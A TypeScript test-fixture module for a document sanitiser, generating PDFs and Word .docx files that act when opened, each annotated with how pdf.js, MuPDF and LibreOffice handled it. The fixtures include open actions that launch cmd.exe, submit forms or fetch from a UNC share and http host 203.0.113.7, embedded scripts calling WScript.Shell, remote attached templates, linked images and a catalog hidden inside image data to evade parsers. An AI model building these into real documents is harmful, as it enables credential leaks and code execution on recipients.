// PDFs and .docx files that act when opened: they run a script, start a program or
// reach a host the sender names (the classes issue 35's review found; issue 21's are
// in hostile-documents.ts). A rebuild from an allowlist must keep each one's page or
// text and none of what acts. Each was opened in real readers: the PDFs in pdf.js 5.6
// (legacy build, in Node) and MuPDF 1.21 (paths are `mutool show f.pdf trailer/Root/…`,
// counted from 1), the .docx in LibreOffice 7.4 (soffice --convert-to pdf, and fodt
// to see what it kept); the comment above each entry says what they saw.
import { deflateSync } from 'node:zlib';
import { complexField, docxWithBody, fetchingFieldCodes, W } from './hostile-documents.ts';
import {
  javaScriptAction,
  objectStream,
  pdfStream,
  pdfString,
  pdfWithVisiblePage,
  pdfWithXrefStream,
  pngUpPredicted,
  visiblePageObjects,
  withXrefTable,
} from './pdf-objects.ts';
import { docxPackage, pngBytes, relationshipsXml, relationshipXml, wordType } from './sample-documents.ts';

const HOST = '203.0.113.7';
const UNC = (file: string) => `\\\\${HOST}\\share\\${file}`;
const opening = (action: string, ...more: Array<string | Buffer>) =>
  pdfWithVisiblePage('/OpenAction 5 0 R', '', action, ...more);
const onPage = (annotation: string, ...more: Array<string | Buffer>) =>
  pdfWithVisiblePage('', '/Annots [5 0 R]', annotation, ...more);
const embeddedFile = (name: string, data: string) => [
  `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
  pdfStream('/Type /EmbeddedFile', data),
];

/**
 * A visible page (2–4) and, at 5, an image whose dictionary holds `oddity`; the xref
 * table finds the catalog (1) and its action (6) inside the image's data.
 */
function catalogInStreamData(oddity: string): Buffer {
  const [catalog, ...page] = visiblePageObjects('/OpenAction 6 0 R');
  const hidden = `\n1 0 obj\n${catalog}\nendobj\n6 0 obj\n${javaScriptAction}\nendobj\n`;
  const image = pdfStream(`/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 ${oddity}`, hidden);
  const objects = [...page, image].map((object, i) =>
    Buffer.concat([Buffer.from(`\n${i + 2} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj')]),
  );
  return withXrefTable(
    Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3', 'latin1'), ...objects, Buffer.from('\n')]),
    6,
  );
}

/** The catalog (1) and its action (6) in object stream 5, filtered as `options` say; `more` from 7. */
function catalogInObjectStream(options: Parameters<typeof objectStream>[1], ...more: string[]): Buffer {
  const [catalog, ...page] = visiblePageObjects('/OpenAction 6 0 R');
  const stream = objectStream({ 1: catalog as string, 6: javaScriptAction }, options);
  return pdfWithXrefStream([null, ...page, stream, null, ...more], { 1: [5, 0], 6: [5, 1] });
}
const deep = (depth: number) => `${'['.repeat(depth)}0 1${']'.repeat(depth)}`;
const predicted = (data: Buffer) => deflateSync(pngUpPredicted(data, 5));

const script = "WScript.CreateObject('WScript.Shell').Run('calc.exe')";
const xfaRunningScript =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
  '<subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script>' +
  '</event></subform></template></xdp:xdp>';

/** Open actions that reach a host the sender names, or start a program. */
const openActions: Record<string, string> = {
  // pdf.js: opens, does not act (its openAction keeps only destinations); MuPDF: OpenAction → /S /GoToR.
  'an open action GoToR to a share': `<< /S /GoToR /F ${pdfString(UNC('a.pdf'))} /D [0 /Fit] >>`,
  // pdf.js: opens, warns “unsupported action: ImportData”; MuPDF: OpenAction → /S /ImportData.
  'an open action ImportData from a share': `<< /S /ImportData /F ${pdfString(UNC('d.fdf'))} >>`,
  // pdf.js: opens, does not act; MuPDF: OpenAction → /S /SubmitForm.
  'an open action SubmitForm to a host': `<< /S /SubmitForm /F << /FS /URL /F (http://${HOST}/collect) >> /Flags 4 >>`,
  // pdf.js: opens, does not act on a URI open action; MuPDF: OpenAction → /S /URI.
  'an open action URI': `<< /S /URI /URI (http://${HOST}/) >>`,
  // pdf.js: opens, warns “unimplemented GoToE”; MuPDF: OpenAction → /S /GoToE.
  'an open action GoToE into a file on a share': `<< /S /GoToE /F ${pdfString(UNC('e.pdf'))} /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>`,
  // pdf.js: opens, warns “unsupported action: Thread”; MuPDF: OpenAction → /S /Thread.
  'an open action Thread in a file on a share': `<< /S /Thread /F << /Type /Filespec /F ${pdfString(UNC('t.pdf'))} >> /D 0 >>`,
  // pdf.js: opens, does not act; MuPDF: OpenAction → /S /Launch.
  'an open action Launch of cmd.exe':
    '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>',
};

/** PDFs each of which a viewer acts on when it opens them; each has a page of text. */
export const pdfsThatAct = (): Record<string, Buffer> => ({
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction (both follow the xref into the data); qpdf --check passes.
  'a catalog inside an image’s data, beside arrays 70 deep': catalogInStreamData(`/Decode ${deep(70)}`),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction (reads the keyword as null); qpdf warns.
  'a catalog inside an image’s data, beside an unknown keyword': catalogInStreamData('/Interpolate maybe'),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction (both read --5 as -5); qpdf warns.
  'a catalog inside an image’s data, beside the number --5': catalogInStreamData('/Decode [--5 1]'),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction; qpdf: “unable to find /Root”.
  'a catalog in an object stream filtered by /F /Fl': catalogInObjectStream({ filterKey: '/F', filter: '/Fl' }),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction; qpdf: “unable to find /Root”.
  'a catalog in an object stream filtered by /F /Fl /DP with a predictor': catalogInObjectStream({
    filterKey: '/F',
    filter: '/Fl',
    extra: '/DP << /Predictor 12 /Columns 5 >>',
    encode: predicted,
  }),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction; qpdf: “unable to find /Root”.
  'a catalog in an object stream filtered by /F /Fl /DP without a predictor': catalogInObjectStream({
    filterKey: '/F',
    filter: '/Fl',
    extra: '/DP << /Columns 5 >>',
  }),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction.
  'a catalog in an object stream whose /DecodeParms are an indirect dictionary': catalogInObjectStream(
    { filter: '[/FlateDecode]', extra: '/DecodeParms [7 0 R]', encode: predicted },
    '<< /Predictor 12 /Columns 5 >>',
  ),
  // pdf.js: getJSActions → OpenAction; MuPDF: OpenAction.
  'a catalog in an object stream whose predictor is indirect': catalogInObjectStream(
    { extra: '/DecodeParms << /Predictor 7 0 R /Columns 5 >>', encode: predicted },
    '12',
  ),
  // pdf.js: getAnnotations → 3D (unimplemented, runs nothing); MuPDF: Annots/1/3DD/OnInstantiate → the script.
  'a 3D annotation whose stream runs a script when instantiated': onPage(
    '<< /Type /Annot /Subtype /3D /Rect [0 0 200 200] /3DD 6 0 R /3DA << /A /PO >> >>',
    pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'U3D\0'),
    pdfStream('', 'app.alert(1)'),
  ),
  ...Object.fromEntries(Object.entries(openActions).map(([name, action]) => [name, opening(action)])),
  // pdf.js: opens, warns “unsupported action: Rendition”; MuPDF: OpenAction → /S /Rendition.
  'an open action Rendition of a clip on a host, with a script': opening(
    `<< /S /Rendition /OP 0 /AN 6 0 R /JS (app.alert\\(1\\)) /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D << /Type /Filespec /FS /URL /F (http://${HOST}/a.mp4) >> >> >> >>`,
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 200 200] /P 3 0 R >>',
  ),
  // pdf.js: page.getJSActions → PageOpen; MuPDF: Pages/Kids/1/AA/O.
  'a page that runs a script when it opens (/AA /O)': pdfWithVisiblePage('', `/AA << /O ${javaScriptAction} >>`),
  // pdf.js: getAnnotations → Link, url http://203.0.113.7/ (from app.launchURL); MuPDF: Annots/1/A (no link).
  'a link that runs a script': onPage(
    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /Border [0 0 0] /A << /S /JavaScript /JS ${pdfString(`app.launchURL("http://${HOST}/", true)`)} >> >>`,
  ),
  // pdf.js: getFieldObjects and getAnnotations → actions PageOpen, Focus; MuPDF: Annots/1/AA.
  'a form field that runs scripts when its page opens and when it has focus': pdfWithVisiblePage(
    '/AcroForm << /Fields [5 0 R] >>',
    '/Annots [5 0 R]',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [20 20 180 60] /P 3 0 R /AA << /PO ${javaScriptAction} /Fo ${javaScriptAction} >> >>`,
  ),
  // pdf.js: getMetadata → IsXFAPresent (no XFA scripting); MuPDF: AcroForm/XFA.
  'an XFA form that runs a script when it initialises': pdfWithVisiblePage(
    '/AcroForm << /Fields [] /XFA 5 0 R >>',
    '',
    pdfStream('', xfaRunningScript),
  ),
  // pdf.js: getJSActions → run; MuPDF: Names/JavaScript.
  'a document-level script (/Names /JavaScript)': pdfWithVisiblePage(
    '/Names << /JavaScript << /Names [(run) 5 0 R] >> >>',
    '',
    javaScriptAction,
  ),
  // pdf.js: getAttachments → run-me.js; MuPDF: Names/EmbeddedFiles → EF/F.
  'an attached script (/Names /EmbeddedFiles)': pdfWithVisiblePage(
    '/Names << /EmbeddedFiles << /Names [(run-me.js) 6 0 R] >> >> /PageMode /UseAttachments',
    '',
    '<< >>',
    ...embeddedFile('run-me.js', script),
  ),
  // pdf.js: getAnnotations → FileAttachment with run-me.js’s content; MuPDF: Annots/1/FS/EF/F.
  'a file attachment annotation holding a script': onPage(
    '<< /Type /Annot /Subtype /FileAttachment /Rect [20 20 40 40] /Name /PushPin /FS 6 0 R /Contents (open me) >>',
    ...embeddedFile('run-me.js', script),
  ),
  // pdf.js: getAnnotations → RichMedia (unimplemented); MuPDF: Annots/1/RichMediaContent/Assets → EF/F.
  'a rich media annotation that plays a Flash file when its page opens': onPage(
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaSettings << /Activation << /Condition /PO >> >> ' +
      '/RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> /Configurations [<< /Type /RichMediaConfiguration ' +
      '/Subtype /Flash /Instances [<< /Type /RichMediaInstance /Subtype /Flash /Asset 6 0 R >>] >>] >> >>',
    ...embeddedFile('a.swf', 'FWS\x0a'),
  ),
});

// ---------------------------------------------------------------------------
// Word .docx

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const documentXml = (body: string, namespaces = '') =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  `<w:document xmlns:w="${W}" xmlns:r="${R}" ${namespaces}><w:body>${paragraph('Curriculum vitae')}${body}</w:body></w:document>`;
const fields = fetchingFieldCodes;
const rtfEscaped = (text: string) => text.replace(/[\\{}]/g, (c) => `\\${c}`);
/** An altChunk: a part in another format that Word converts and inserts where <w:altChunk> stands. */
const altChunk = (extension: string, type: string, content: string | Buffer) =>
  docxPackage({
    document: documentXml('<w:altChunk r:id="rIdA"/>'),
    related: [relationshipXml('rIdA', 'aFChunk', `chunk.${extension}`)],
    parts: [{ name: `word/chunk.${extension}`, content }],
    types: { [extension]: type },
  });
const drawingNamespaces =
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
/** A picture whose <a:blip> has `blip` (its reference) and holds `inBlip`; `docPr` in its properties. */
const picture = (blip: string, { inBlip = '', docPr = '' } = {}) =>
  '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/>' +
  `<wp:docPr id="1" name="Picture 1">${docPr}</wp:docPr>` +
  '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
  '<pic:nvPicPr><pic:cNvPr id="1" name="a.png"/><pic:cNvPicPr/></pic:nvPicPr>' +
  `<pic:blipFill><a:blip ${blip}>${inBlip}</a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
  '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>' +
  '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
/** A picture whose image Word fetches from `r:link`'s target rather than the package. */
const linkedPicture = picture('r:link="rIdI"');
const vmlNamespaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
/** A legacy (VML) picture whose image is the relationship `id`. */
const vmlPicture = (id: string) =>
  `<w:p><w:r><w:pict><v:shape style="width:75pt;height:75pt"><v:imagedata r:id="${id}" o:title=""/></v:shape></w:pict></w:r></w:p>`;
/** A link to `target`, the relationship a picture below names instead of an image. */
const linkTo = (target: string) => [relationshipXml('rIdL', 'hyperlink', target, true)];
/** Word's online video: a poster picture, the player's HTML (the sender's) in wp15:webVideoPr, a link to the video. */
const onlineVideo = picture('r:embed="rIdP"', {
  inBlip:
    '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-B5F7-EEA9579F0CBA}">' +
    '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" ' +
    `embeddedHtml="&lt;iframe src=&quot;http://${HOST}/player&quot; width=&quot;640&quot; height=&quot;360&quot;&gt;&lt;/iframe&gt;" h="360" w="640"/>` +
    '</a:ext></a:extLst>',
  docPr: '<a:hlinkClick r:id="rIdV"/>',
});
const FONT_KEY = '{3D1D0B4A-0000-4000-8000-000000000048}';
/** Bytes in a font part's place: the copy must not carry them, whatever they are. */
const fontBytes = Buffer.from('\0\x01\0\0 a font of the sender’s', 'utf8');

const ignorableW = `xmlns:x="${W}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x"`;
const STORE_ITEM = '{6C3C5F3A-0000-4000-8000-000000000035}';

/** .docx files each of which Word acts on when it opens them; each has a paragraph of text. */
export const docxThatAct = (): Record<string, Buffer> => ({
  // LibreOffice: opens, reads word/document.bin as the document and shows the field’s result.
  'a main document part named word/document.bin, with an INCLUDEPICTURE field': docxPackage({
    main: 'word/document.bin',
    document: documentXml(complexField([` ${fields.INCLUDEPICTURE} `])),
  }),
  // LibreOffice: opens, keeps the DDEAUTO field (a field mark) in the header.
  'a header part named word/header1.dat, with a DDEAUTO field': docxPackage({
    document: documentXml('<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>'),
    related: [relationshipXml('rIdH', 'header', 'header1.dat')],
    parts: [
      {
        name: 'word/header1.dat',
        content: `<w:hdr xmlns:w="${W}">${complexField([` ${fields.DDEAUTO} `])}</w:hdr>`,
      },
    ],
    types: { '/word/header1.dat': wordType('header') },
  }),
  // LibreOffice: opens and reads the x: field as WordprocessingML (shows its result).
  'a field in a prefix mc:Ignorable names, bound to WordprocessingML itself': docxPackage({
    document: documentXml(complexField([` ${fields.INCLUDEPICTURE} `]).replaceAll('w:', 'x:'), ignorableW),
  }),
  // LibreOffice: opens and reads the x: field as WordprocessingML (shows its result).
  'a simple field in a prefix mc:Ignorable names, bound to WordprocessingML itself': docxPackage({
    document: documentXml(
      `<x:p><x:fldSimple x:instr="${fields.INCLUDEPICTURE.replaceAll('"', '&quot;')}"><x:r><x:t>picture</x:t></x:r></x:fldSimple></x:p>`,
      ignorableW,
    ),
  }),
  // LibreOffice: opens; it imports only .docx altChunks, so skips this one (Word converts RTF).
  'an RTF altChunk with DDEAUTO and INCLUDEPICTURE fields and an embedded object': altChunk(
    'rtf',
    'application/rtf',
    `{\\rtf1\\ansi{\\field{\\*\\fldinst ${rtfEscaped(fields.DDEAUTO)}}{\\fldrslt dde}}\\par` +
      `{\\field{\\*\\fldinst ${rtfEscaped(fields.INCLUDEPICTURE)}}{\\fldrslt picture}}\\par` +
      '{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500}}\\par RTF chunk\\par}',
  ),
  // LibreOffice: opens; skips the HTML altChunk (Word converts HTML).
  'an HTML altChunk with an image on a share': altChunk(
    'html',
    'text/html',
    `<html><body><p>HTML chunk</p><img src="${UNC('a.png')}"></body></html>`,
  ),
  // LibreOffice: opens and inserts the nested document’s text and field.
  'a .docx altChunk with an INCLUDEPICTURE field': altChunk(
    'docx',
    wordType('document.main'),
    docxWithBody(paragraph('Nested document') + complexField([` ${fields.INCLUDEPICTURE} `])),
  ),
  // LibreOffice: opens (it does not load attached templates; Word does).
  'a template attached from a share': docxPackage({
    document: documentXml(''),
    related: [relationshipXml('rIdS', 'settings', 'settings.xml')],
    parts: [
      {
        name: 'word/settings.xml',
        content: `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rIdT"/></w:settings>`,
      },
      {
        name: 'word/_rels/settings.xml.rels',
        content: relationshipsXml(relationshipXml('rIdT', 'attachedTemplate', UNC('cv.dotm'), true)),
      },
    ],
    types: { '/word/settings.xml': wordType('settings') },
  }),
  // LibreOffice: opens and links the picture to file://203.0.113.7/share/a.png.
  'a picture linked from a share (r:link)': docxPackage({
    document: documentXml(linkedPicture, drawingNamespaces),
    related: [relationshipXml('rIdI', 'image', UNC('a.png'), true)],
  }),
  // LibreOffice: opens and fetches http://203.0.113.7/a.png to draw the picture (the review's finding; seen again).
  'a picture linked through a hyperlink relationship (a:blip r:link)': docxPackage({
    document: documentXml(picture('r:link="rIdL"'), drawingNamespaces),
    related: linkTo(`http://${HOST}/a.png`),
  }),
  // LibreOffice: opens, draws no picture, fetches nothing (a reader that follows the reference would fetch).
  'a picture whose r:embed names a hyperlink relationship': docxPackage({
    document: documentXml(picture('r:embed="rIdL"'), drawingNamespaces),
    related: linkTo(`http://${HOST}/b.png`),
  }),
  // LibreOffice: opens, draws no picture and fetched nothing here (to PDF and to ODT); the review saw this shape fetch.
  'a VML picture whose r:id names a hyperlink relationship': docxPackage({
    document: documentXml(vmlPicture('rIdL'), vmlNamespaces),
    related: linkTo(`http://${HOST}/c.png`),
  }),
  // LibreOffice: opens, shows the poster, fetches nothing; Word's online video plays the HTML given (the review's finding).
  'an online video (wp15:webVideoPr) with the sender’s HTML': docxPackage({
    document: documentXml(onlineVideo, drawingNamespaces),
    related: [
      relationshipXml('rIdP', 'image', 'media/poster.png'),
      relationshipXml('rIdV', 'hyperlink', 'https://video.example.com/watch?v=cv', true),
    ],
    parts: [{ name: 'word/media/poster.png', content: pngBytes() }],
    types: { png: 'image/png' },
  }),
  // LibreOffice: opens; these bytes are no font, but a real one is written out and loaded (the review's finding).
  'an embedded font (a font part and w:embedRegular)': docxPackage({
    document: documentXml(''),
    related: [
      relationshipXml('rIdF', 'fontTable', 'fontTable.xml'),
      relationshipXml('rIdS', 'settings', 'settings.xml'),
    ],
    parts: [
      {
        name: 'word/fontTable.xml',
        content:
          `<w:fonts xmlns:w="${W}" xmlns:r="${R}"><w:font w:name="Sender Sans">` +
          `<w:embedRegular r:id="rId1" w:fontKey="${FONT_KEY}"/><w:embedBold r:id="rId1" w:fontKey="${FONT_KEY}"/></w:font></w:fonts>`,
      },
      {
        name: 'word/_rels/fontTable.xml.rels',
        content: relationshipsXml(relationshipXml('rId1', 'font', 'fonts/font1.odttf')),
      },
      { name: 'word/fonts/font1.odttf', content: fontBytes },
      {
        name: 'word/settings.xml',
        content: `<w:settings xmlns:w="${W}"><w:embedTrueTypeFonts/><w:saveSubsetFonts/></w:settings>`,
      },
    ],
    types: {
      '/word/fontTable.xml': wordType('fontTable'),
      '/word/settings.xml': wordType('settings'),
      odttf: 'application/vnd.openxmlformats-officedocument.obfuscatedFont',
    },
  }),
  // LibreOffice: opens, shows the control’s text (an internal DTD subset made it refuse the file).
  'a custom XML part whose DTD is on a host, bound to a content control': docxPackage({
    document: documentXml(
      `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/cv/name" w:storeItemID="${STORE_ITEM}"/></w:sdtPr>` +
        `<w:sdtContent>${paragraph('name')}</w:sdtContent></w:sdt>`,
    ),
    related: [relationshipXml('rIdC', 'customXml', '../customXml/item1.xml')],
    parts: [
      {
        name: 'customXml/item1.xml',
        content: `<?xml version="1.0"?><!DOCTYPE cv SYSTEM "http://${HOST}/cv.dtd"><cv><name>name</name></cv>`,
      },
      {
        name: 'customXml/itemProps1.xml',
        content: `<ds:datastoreItem ds:itemID="${STORE_ITEM}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs/></ds:datastoreItem>`,
      },
      {
        name: 'customXml/_rels/item1.xml.rels',
        content: relationshipsXml(relationshipXml('rId1', 'customXmlProps', 'itemProps1.xml')),
      },
    ],
    types: { '/customXml/itemProps1.xml': 'application/vnd.openxmlformats-officedocument.customXmlProperties+xml' },
  }),
  // LibreOffice: opens (building blocks are not shown).
  'a glossary document (building blocks) with an INCLUDEPICTURE field': docxPackage({
    document: documentXml(''),
    related: [relationshipXml('rIdG', 'glossaryDocument', 'glossary/document.xml')],
    parts: [
      {
        name: 'word/glossary/document.xml',
        content:
          `<w:glossaryDocument xmlns:w="${W}"><w:docParts><w:docPart><w:docPartPr><w:name w:val="Signature"/>` +
          '<w:category><w:name w:val="General"/><w:gallery w:val="autoTxt"/></w:category></w:docPartPr>' +
          `<w:docPartBody>${complexField([` ${fields.INCLUDEPICTURE} `])}</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`,
      },
    ],
    types: { '/word/glossary/document.xml': wordType('document.glossary') },
  }),
});
